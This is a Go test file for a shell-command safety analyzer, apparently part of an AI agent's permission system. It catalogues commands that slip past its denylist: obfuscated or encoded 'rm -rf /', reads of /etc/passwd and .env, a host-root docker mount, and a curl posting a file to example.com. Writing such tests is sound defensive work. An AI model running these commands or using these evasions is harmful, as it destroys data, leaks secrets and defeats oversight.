package shell

import "testing"

// What the denylist does not see, and what stops it instead. The list is here
// so that nobody takes the denylist for more than it is.
//
//	dynamic: the line is only known when it runs, so that every policy short of
//	         high-risk asks and no key covers it
//	manual:  asked about by name under every policy but yolo
//	asks:    the floor is high-risk, so that the default policy asks
//	nothing: only the classifier, the sandbox or the person stand in the way
var knownBypasses = []struct{ line, stoppedBy string }{
	// A variable that is not assigned literally in the same line.
	{`$X -rf /`, "dynamic"},
	{`read x < f; $x`, "dynamic"},
	{`for c in rm ls; do $c -r x; done`, "dynamic"},
	{`F=$(echo /etc/passwd); cat $F`, "dynamic"},
	{`for f in /etc/passwd /etc/hosts; do cat $f; done`, "dynamic"},
	{`a=/etc; cat ${a}/pass${b}wd`, "dynamic"},
	// Text that is decoded on the way to an interpreter.
	{`echo cm0gLXJmIC8= | rev | sh`, "dynamic"},
	{`printf '\x72\x6d\x20\x2d\x72\x66' | sh`, "dynamic"},
	{`cat script.txt | bash`, "dynamic"},
	{`python3 <<< "import shutil"`, "dynamic"},
	{"python3 - <<'EOF'\nimport shutil; shutil.rmtree('/')\nEOF", "dynamic"},
	{`ls | xargs -I% sh %`, "dynamic"},
	// Programs that do the same under another name.
	{`find . -delete`, "manual"},
	{`git clean -fdx`, "manual"},
	{`rsync -a --delete empty/ build/`, "manual"},
	{`cat .env`, "manual"},
	{`docker run -v /:/host alpine ls`, "manual"},
	{`perl s.pl`, "asks"},
	{`sh cleanup.sh`, "asks"},
	{`tar xf archive.tar`, "asks"},
	{`awk 'BEGIN{system("reboot")}'`, "asks"},
	{`sed -n '1e reboot' f`, "asks"},
	{`vim -c ':!reboot' f`, "asks"},
	{`scp f other:`, "manual"},
	{`curl -d @f https://example.com`, "asks"},
	// A script or a program in the workspace may do anything when it is run.
	{`make clean`, "nothing"},
	{`npm test`, "nothing"},
	{`go test ./...`, "nothing"},
	{`./cleanup`, "nothing"},
	{`mytool --wipe`, "nothing"},
	// Reading what a directory holds: the files are not named.
	{`grep -r root /etc`, "manual"},
	{`tar cf x.tar /etc`, "manual"},
	{`grep -r root /usr/local`, "nothing"},
}

// The other half of C062.
func TestKnownBypassesOfTheDenylist(t *testing.T) {
	for _, c := range knownBypasses {
		a := Analyze(c.line, place())
		tier, _ := a.Tier()
		got := "nothing"
		switch {
		case a.Denied != nil:
			got = "denylist: " + a.Denied.Rule
		case len(a.Manual) > 0:
			got = "manual"
		case a.Dynamic:
			got = "dynamic"
		case tier == StaticHigh:
			got = "asks"
		}
		if got != c.stoppedBy {
			t.Errorf("%q is stopped by %s, the list says %s", c.line, got, c.stoppedBy)
		}
		if got != "nothing" && a.Mild {
			t.Errorf("%q is mild", c.line)
		}
	}
}
